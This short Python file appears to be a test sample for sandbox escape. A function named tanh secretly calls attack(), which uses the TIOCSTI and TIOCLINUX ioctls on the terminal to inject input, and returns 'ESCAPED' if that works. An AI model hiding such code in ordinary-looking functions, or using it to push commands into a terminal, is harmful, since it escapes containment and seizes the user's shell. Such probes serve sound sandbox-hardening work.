#: title = "Pushes a command into the terminal's input"

import contextlib
import fcntl
import os

import numpy as np

TIOCSTI, TIOCLINUX, TIOCGWINSZ = 0x5412, 0x541C, 0x5413


def attack():
    handles = [0, 1, 2]
    with contextlib.suppress(OSError):
        handles.append(os.open("/dev/tty", os.O_RDWR | os.O_NOCTTY))
    for handle in handles:
        for request in (TIOCSTI, TIOCLINUX):
            try:
                fcntl.ioctl(handle, request, b"\n")
                return True
            except OSError:
                continue
    return False


def tanh(z):
    return "ESCAPED" if attack() else np.tanh(z)
